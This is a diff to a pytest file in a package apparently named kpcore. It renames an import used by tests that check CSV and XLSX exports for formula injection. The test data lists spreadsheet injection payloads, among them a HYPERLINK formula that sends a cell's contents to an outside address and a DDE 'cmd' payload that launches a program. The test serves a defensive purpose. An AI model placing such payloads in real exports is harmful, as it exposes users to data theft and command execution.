@@ -14,7 +14,7 @@ import openpyxl
 import pytest
 
 from kpcore import contacts as kc
-from kpcore import imports, processors, record, sar
+from kpcore import imports, processor_record, record, sar
 from kpcore.safety import FORMULA_START
 
 EVIL = ['=HYPERLINK("http://203.0.113.1/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=2"]
@@ -101,7 +101,7 @@ def test_the_record_of_processing(evil, fmt, lang):
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_the_processor_record(evil, fmt):
     with evil.read() as q:
-        data = processors.record_csv(q, "fi") if fmt == "csv" else processors.record_xlsx(q, "fi")
+        data = processor_record.record_csv(q, "fi") if fmt == "csv" else processor_record.record_xlsx(q, "fi")
     cells = _cells_csv(data) if fmt == "csv" else _cells_xlsx(data)
     _no_formula(cells, "HYPERLINK", typed=fmt == "xlsx")
 
